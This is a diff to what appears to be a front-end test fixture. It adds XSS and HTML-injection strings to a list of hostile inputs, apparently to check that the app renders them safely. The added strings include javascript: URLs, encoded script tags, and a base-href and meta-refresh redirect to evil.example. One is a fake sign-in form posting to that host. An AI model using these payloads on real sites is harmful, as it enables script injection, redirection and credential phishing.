@@ -20,7 +20,12 @@ export const HOSTILE_TEXTS = [
   '👩‍💻 family 👨‍👩‍👧‍👦 flag 🏴󠁧󠁢󠁥󠁮󠁧󠁿 ❤️',
   'w'.repeat(400),
   `{{constructor.constructor("window.pwned=6")()}} ${'$'}{window.pwned=7}`,
-  '</title></style></textarea><iframe srcdoc="<script>parent.pwned=8</script>">'
+  '</title></style></textarea><iframe srcdoc="<script>parent.pwned=8</script>">',
+  'javascript:window.pwned=10',
+  '&lt;script&gt;window.pwned=11&lt;/script&gt; &#x3c;b&#x3e;',
+  "'-(window.pwned=12)-' \\u003cscript\\u003ewindow.pwned=13\\u003c/script\\u003e",
+  '<math><a xlink:href="javascript:window.pwned=14">x</a></math><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<form action="https://evil.example/"><input name="q" autofocus onfocus="window.pwned=15"><button>Sign in</button></form>'
 ] as const
 
 const TIME = '2026-10-01T08:00:00.000Z'
